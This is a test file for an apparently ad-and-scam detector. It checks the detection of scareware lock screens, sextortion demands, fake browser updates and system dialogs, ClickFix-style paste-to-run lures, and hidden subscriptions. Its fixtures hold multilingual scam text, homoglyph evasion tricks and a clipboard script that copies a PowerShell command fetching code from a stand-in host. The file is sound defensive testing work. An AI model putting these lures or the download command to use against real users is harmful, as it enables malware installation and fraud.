import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Observation, ObservationOf } from '@adsweep/shared/capture/observations/index.ts';
import { detect } from '../../../src/analysis/detectors/detect.ts';
import { NO_EVIDENCE } from '../../../src/analysis/evidence/evidence.ts';
import { documentOf, observed, PAGE, slugsOf } from '../../support/detected.ts';
import { captureOf } from '../../support/running-farm.ts';

describe('§2.5.13 scareware', () => {
  const frightening = [
    ['Your computer has been locked.', 'Do not restart it. Call Windows support now: +1 (888) 555-0142'],
    ['Ihr Computer wurde gesperrt!', 'Rufen Sie sofort den Microsoft-Support an: 0800 555 01 42'],
    ['Votre ordinateur est bloqué !', "N'éteignez pas votre ordinateur."],
    ['Su ordenador está infectado.', 'No apague el equipo. Llame al soporte técnico: 900 555 0142'],
    ['Il tuo computer è infetto.', 'Non spegnere il computer.'],
    ['Seu computador foi bloqueado.', 'Não desligue o computador.'],
    ['Uw computer is geblokkeerd.', 'U kunt uw computer niet uitschakelen.'],
    ['Twój komputer został zablokowany.', 'Nie wyłączaj komputera.'],
    ['Ваш компьютер заблокирован.', 'Не выключайте компьютер.'],
    ['Bilgisayarınız kilitlendi.', 'Bu pencereyi kapatmayın.'],
    ['お使いのコンピュータはウイルスに感染しています。', 'この画面を閉じないでください。'],
  ];
  for (const [claim = '', pressure = ''] of frightening)
    it(`is "${claim}" with "${pressure}", and neither alone`, () => {
      assert.deepEqual(slugsOf({ text: `${claim}\n${pressure}` }), ['scareware']);
      assert.deepEqual(slugsOf({ text: claim }), []);
      assert.deepEqual(slugsOf({ text: pressure }), []);
    });

  it('is found in Turkish capitals, whose i has a dot or none', () => {
    assert.deepEqual(slugsOf({ text: 'BİLGİSAYARINIZ KİLİTLENDİ.\nBU PENCEREYİ KAPATMAYIN.' }), ['scareware']);
  });

  it('is found despite invisible and full-width characters', () => {
    const text = 'Your com\u00adputer has be\u200ben locked.\nＤｏ ｎｏｔ ｒｅｓｔａｒｔ it.';
    assert.deepEqual(slugsOf({ text }), ['scareware']);
  });

  it('is found in letters that look like Latin ones', () => {
    const looks = [
      'Yоur соmрutеr hаs bееn lосkеd. Dо nоt rеstаrt іt.',
      'ꓬꓳꓴꓣ ꓚꓳꓟꓑꓴꓔꓰꓣ ꓮꓢ: your ᴄᴏᴍᴘᴜᴛᴇʀ has been ʟᴏᴄᴋᴇᴅ. Do not ʀᴇꜱᴛᴀʀᴛ it.',
      'Yo\u0323ur co\u0323mpu\u0323ter ha\u0323s be\u0323en lo\u0335cke\u0336d. Do not restart it.',
      '🅨🅞🅤🅡 🅲🅾🅼🅿🆄🆃🅴🆁 𝗵𝗮𝘀 𝗯𝗲𝗲𝗻 𝗹𝗼𝗰𝗸𝗲𝗱. Do not restart it.',
      'Your computer has been \u202edekcol\u202c. Do not restart it.',
      'Your \u{e0061}com\u034fputer has\u2066 been\u2069 loc\ufe0fked. Do not restart it.',
    ];
    for (const text of looks) assert.deepEqual(slugsOf({ text }), ['scareware'], text);
  });

  it('is not found in a question, a condition, or a text of a vendor', () => {
    const pressure = 'Do not close this window. Scan now and remove viruses.';
    assert.deepEqual(slugsOf({ text: `Is your computer infected?\n${pressure}` }), []);
    assert.deepEqual(slugsOf({ text: `If your computer is infected, keep calm.\n${pressure}` }), []);
    const url = 'https://support.microsoft.com/help';
    assert.deepEqual(slugsOf({ text: `Your device is at risk.\n${pressure}`, url }), []);
    const ofUser = 'https://sites.google.com/view/help';
    assert.deepEqual(slugsOf({ text: `Your device is at risk.\n${pressure}`, url: ofUser }), ['scareware']);
  });

  it('is found by any telephone number of the page, and an address of a network is none', () => {
    const claim = 'Your computer has been locked.\n';
    assert.deepEqual(slugsOf({ text: `${claim}IP: 81.2.69.142\nCall Support +1-888-555-0142` }), ['scareware']);
    assert.deepEqual(slugsOf({ text: `${claim}Code: 12345678.\nAppelez le 01.23.45.67.89, call now` }), ['scareware']);
    assert.deepEqual(slugsOf({ text: `${claim}IP: 192.168.100.200, 2026-01-15 10\nCall Support` }), []);
  });

  it('is not found in an article about an illness', () => {
    const text = 'A virus was detected in two schools.\nCall the office now: +1 (888) 555-0142. Do not ignore this.';
    assert.deepEqual(slugsOf({ title: 'Virus detected', text }), []);
  });

  it('is judged by what visitors see: neither invisible threats nor invisible warnings count', () => {
    const threat = 'Your computer has been locked. Do not restart it.';
    const seen = (text: string, viewport_length: number, page_length: number) =>
      detect({ ...NO_EVIDENCE, documents: [{ ...documentOf({ text }), viewport_length, page_length }] }).findings.map(
        ({ tag_slug }) => tag_slug,
      );
    const article = `${threat}\n${'This is what a scam says. Scammers call, too: hang up. '.repeat(5)}`;
    assert.deepEqual(seen(article, threat.length, threat.length), ['scareware']);
    assert.deepEqual(seen(article, threat.length, article.length), []);
    assert.deepEqual(seen(threat, 0, 0), []);
    assert.deepEqual(seen(threat, 0, threat.length), ['scareware']);
    const junk = 'soup '.repeat(20_000);
    const frames = Array.from({ length: 9 }, (_, n) => ({
      ...documentOf({ text: junk }),
      frame: `f${n}`,
      viewport_length: 4,
    }));
    const last = { ...documentOf({ text: threat }), frame: 'last', viewport_length: threat.length };
    const { findings } = detect({ ...NO_EVIDENCE, documents: [documentOf({}), ...frames, last] });
    assert.deepEqual(
      findings.map(({ tag_slug }) => tag_slug),
      ['scareware'],
    );
  });

  it('is a page that claims to have recorded its visitor and wants to be paid in secret, and no part of that alone', () => {
    const pages = [
      ['I recorded you through your webcam while you watched adult videos.', 'Send $900 in Bitcoin within 48 hours.'],
      ['Ich habe Sie gefilmt, über Ihre Kamera.', 'Zahlen Sie in Bitcoin, sonst sehen es Ihre Kontakte.'],
      ['Je vous ai filmé avec votre caméra.', 'Envoyez 900 € en Bitcoin, vous avez 48 heures.'],
      ['Te he grabado con tu cámara.', 'Envía 900 € en Bitcoin en 48 horas.'],
      ['Я записал тебя через камеру.', 'Переведи деньги в биткоин, у тебя 48 часов.'],
    ];
    for (const [claim = '', demand = ''] of pages) {
      assert.deepEqual(slugsOf({ text: `${claim}\n${demand}` }), ['scareware'], claim);
      assert.deepEqual([slugsOf({ text: claim }), slugsOf({ text: demand })], [[], []], claim);
    }
    const shop = 'Our camera makes a video of you at the door.\nWe take Bitcoin: send the order within 48 hours.';
    assert.deepEqual(slugsOf({ text: shop.replace('a video of you', 'videos') }), []);
    const [[claim, demand] = []] = pages;
    assert.deepEqual(slugsOf({ text: `A scam mail says: ${claim} ${demand} It is a hoax.` }), []);
  });

  it('is not found in an article about scareware, unless the page holds its visitor', () => {
    const text =
      'A scam says: "Your computer has been locked." This is fake.\nDo not close this window: call nobody, it is a scam.';
    assert.deepEqual(slugsOf({ text }), []);
    assert.deepEqual(slugsOf({ text }, [observed('dialogs', { count: 1 })]), ['scareware']);
  });
});

describe('§2.5.13 fake updates, dialogs and commands', () => {
  it('fake_update is found for an old part of the browser with a program, not with a link to the vendor', () => {
    const text = 'Your browser is out of date.';
    const link = (href: string) => `<a class="b" href="${href}"><b>Update</b> now</a>`;
    assert.deepEqual(slugsOf({ text, html: link('/get/Setup.exe?a=1&amp;b=2') }), ['fake_update']);
    assert.deepEqual(slugsOf({ text, html: link('https://dl.google.com/ChromeSetup.exe') }), []);
    assert.deepEqual(slugsOf({ text, html: link('/help/browsers') }), []);
    assert.deepEqual(slugsOf({ text: 'A lamp.', html: link('/get/Setup.exe') }), []);
  });

  it('fake_system_dialog is found for a dialog in the name of a system or browser on another site', () => {
    const box = (text: string, buttons: string[], url = PAGE) => observed('dialog_box', { text, buttons }, 0, url);
    const warning = 'Windows Security\nYour PC is infected.';
    const slugs = (...boxes: Observation[]) => slugsOf({}, boxes);
    assert.deepEqual(slugs(box(warning, ['OK'])), ['fake_system_dialog']);
    assert.deepEqual(slugs(box(warning, ['OK'], 'https://www.microsoft.com/')), []);
    assert.deepEqual(slugs(box('films.example wants to\nShow notifications', ['Block', 'Allow'])), [
      'fake_system_dialog',
    ]);
    assert.deepEqual(slugs(box('films.example wants to\nShow notifications', ['Later', 'Allow'])), []);
    for (const [text = '', ...buttons] of [
      ['films.example deseja\nMostrar notificações', 'Bloquear', 'Permitir'],
      ['films.example の内容\n当選しました', 'OK'],
      ['Windows Güvenliği\nBilgisayarınıza virüs bulaşmış, cihazınız tehlikede', 'Tamam'],
      ['Windows Beveiliging\nUw computer is geïnfecteerd', 'OK'],
      ['Zabezpieczenia systemu Windows\nTwój komputer został zainfekowany', 'OK'],
      ['films.example şunu yapmak istiyor:\nBildirim gösterme', 'Engelle', 'İzin ver'],
    ])
      assert.deepEqual(slugs(box(text, buttons)), ['fake_system_dialog'], text);
    for (const closer of ['', '×\n', ' \n\uf00d x\n'])
      assert.deepEqual(slugs(box(`${closer}www.films.example says\nYou have won.`, ['OK'])), ['fake_system_dialog']);
    assert.deepEqual(slugs(box('Delete the project?', ['Cancel', 'Delete'])), []);
  });

  it('fake_system_dialog is found for an old browser in its name with an update from elsewhere, not in a hint of a bank', () => {
    const html = '<button>Update</button><a href="/browsers">Update here</a><button>OK</button>';
    const slugs = (text: string, button: string) =>
      slugsOf({ html }, [observed('dialog_box', { text, buttons: [button] })]);
    const [old, named] = ['Your browser is out of date.', 'Please use a current version of Google Chrome or Firefox.'];
    for (const closer of ['', '×\n', ' \n\uf00d x\n'])
      assert.deepEqual(slugs(`${closer}Google Chrome\n${old}`, 'Update'), ['fake_system_dialog']);
    assert.deepEqual(slugs(`Google Chrome\n${old}`, 'Update here'), []);
    assert.deepEqual(slugs(`Google Chrome\n${old}`, 'OK'), []);
    assert.deepEqual(slugs(`${old} ${named}`, 'OK'), []);
    assert.deepEqual(slugs(`${old}\n${named}`, 'Update'), []);
    assert.deepEqual(slugs(`×\n${old}\n${named}`, 'Update'), []);
  });

  it('paste_to_run is found if visitors are to prove to be human by a command', () => {
    const steps = 'Press Windows + R.\nPress Ctrl + V.\nPress Enter.';
    assert.deepEqual(slugsOf({ text: `Verify that you are human.\n${steps}` }), ['paste_to_run']);
    assert.deepEqual(slugsOf({ text: `How to open the editor:\n${steps}` }), []);
    assert.deepEqual(slugsOf({ text: 'Verify that you are human.' }), []);
    const split = 'Verify you are human\nPress & hold the Windows Key \uf17a\n+ R\nPress CTRL\n+ V';
    assert.deepEqual(slugsOf({ text: split.replace('CTRL\n+ V', 'Ctrl + V') }), ['paste_to_run']);
    assert.deepEqual(slugsOf({ text: split.replace(' + V', '+V') }), ['paste_to_run']);
    for (const human of [
      '请验证您是真人',
      '로봇이 아닙니다',
      'Buktikan bahwa Anda bukan robot',
      'لست روبوتًا',
      'Jag är inte en robot',
    ])
      assert.deepEqual(slugsOf({ text: `${human}\nWindows 键 + R\nCtrl + V` }), ['paste_to_run'], human);
    assert.deepEqual(slugsOf({ text: 'Reload on Windows: Ctrl + R. Paste: Ctrl + V. The captcha is below.' }), []);
  });

  it('paste_to_run is found in an instruction that is shown after a click, if a script copies something', () => {
    const box = '<label><input type="checkbox"> I am not a robot</label>';
    const steps =
      '<ol style="visibility: hidden"><li>Press <kbd>Windows <i class="fa"></i></kbd> + <kbd>R</kbd></li><li>Press&nbsp;Ctrl + V</li></ol>';
    const script = (code: string) => `<script>${code}</script>`;
    const copy = script("document.execCommand('copy')");
    const text = 'I am not a robot';
    assert.deepEqual(slugsOf({ text, html: box + steps + copy }), ['paste_to_run']);
    assert.deepEqual(slugsOf({ text, html: box + steps }), []);
    assert.deepEqual(slugsOf({ text, html: box + copy }), []);
    assert.deepEqual(slugsOf({ text, html: box + copy + script(`const steps = '${steps}'`) }), []);
    assert.deepEqual(slugsOf({ text: `${text}. Beware of ClickFix, a scam.`, html: box + steps + copy }), []);
  });

  it('paste_to_run is found under another pretext if a script copies a command that loads a program', () => {
    const copying = (command: string) => `<script>navigator.clipboard.writeText("${command}")</script>`;
    const html = copying('powershell -c iwr https://x.example/a');
    const repair = 'Something went wrong. How to fix it:\n1. Press Win + R\n2. Press Ctrl + V';
    const file =
      'A file was shared with you.\nOpen File Explorer, select the address bar (Ctrl + L) and paste the path.';
    for (const text of [repair, file]) {
      assert.deepEqual(slugsOf({ text, html }), ['paste_to_run'], text);
      assert.deepEqual(slugsOf({ text }), [], text);
      assert.deepEqual(slugsOf({ text, html: copying('sfc /scannow') }), [], text);
    }
    const install = 'Install errors? Open PowerShell and paste this command.';
    assert.deepEqual(slugsOf({ text: install, html }), []);
    const code = 'navigator.clipboard.writeText("powershell -c iwr https://x.example/a")';
    const loaded = (bytes: number) => ({
      bodies: [{ url: PAGE, resource_type: 'script', content_type: '', bytes, text: code }],
    });
    assert.deepEqual(slugsOf({ text: repair }, [], loaded(code.length)), ['paste_to_run']);
    assert.deepEqual(slugsOf({ text: repair }, [], loaded(500_000)), [], 'a bundle');
  });
});

describe('§2.5.13 forced_subscription', () => {
  const price = (facts: Partial<ObservationOf<'price'>['facts']> = {}) =>
    observed('price', { text: '4.99 € per week', font_px: 14, contrast: 12, in_page: true, ...facts });

  it('is found for a recurring price that is nowhere legible', () => {
    assert.deepEqual(slugsOf({}, [price({ font_px: 8.9 })]), ['forced_subscription']);
    assert.deepEqual(slugsOf({}, [price({ contrast: 1.7 })]), ['forced_subscription']);
    assert.deepEqual(slugsOf({}, [price({ in_page: false })]), ['forced_subscription']);
    assert.deepEqual(slugsOf({}, [price({ font_px: 9, contrast: 1.8 })]), []);
    for (const text of ['$39.95 every 14 days', '47 € alle 14 Tage', '47 € tous les 14 jours', '199 zł co 14 dni'])
      assert.deepEqual(slugsOf({}, [price({ text, font_px: 7 })]), ['forced_subscription'], text);
    assert.deepEqual(slugsOf({}, [price({ font_px: 6 }), price()]), []);
    assert.deepEqual(slugsOf({}, [price({ text: 'Postage: 4.99 €', font_px: 6 })]), []);
  });

  it('is found for a preselected recurring price, or a text message to a short number without a click', () => {
    const ticked = (label: string) => slugsOf({}, [observed('preselected', { label })]);
    assert.deepEqual(ticked('Join the club for 9 $ a month'), ['forced_subscription']);
    assert.deepEqual(ticked('Send me the newsletter each month'), []);
    assert.deepEqual(ticked('Weekly newsletter (max 2 e-mails a week)'), []);
    assert.deepEqual(ticked('Monthly / Yearly (save 20%)'), []);
    for (const price of [
      '19 zł miesięcznie',
      '4,99 Euro pro Woche',
      '29,90 TL haftalık',
      '9 dollars a month',
      '9 EUROS par mois',
    ])
      assert.deepEqual(ticked(`Club: ${price}`), ['forced_subscription'], price);
    assert.deepEqual(ticked('Try 2 weekly newsletters about Europe'), []);
    const to = (url: string) => slugsOf({}, [observed('auto_redirect', { to: url, after_load_ms: 0, refused: false })]);
    assert.deepEqual(to('sms:12345?body=GO'), ['forced_subscription']);
    assert.deepEqual(to('tel:12345'), []);
  });

  it('is found for a form that submits itself and subscribes the visitor', () => {
    const { landings } = captureOf(['https://win.example/', PAGE], {});
    const [landing] = landings;
    assert.ok(landing);
    const by = (kind: 'form' | 'http') => ({
      landings: [{ ...landing, redirect_chain: landing.redirect_chain.map((hop) => ({ ...hop, kind })) }],
    });
    const text = 'You are now subscribed to Games Club.';
    assert.deepEqual(slugsOf({ text }, [], by('form')), ['forced_subscription']);
    assert.deepEqual(slugsOf({ text }, [], by('http')), []);
    assert.deepEqual(slugsOf({ text: 'You are now subscribed to the newsletter.' }, [], by('form')), []);
  });
});
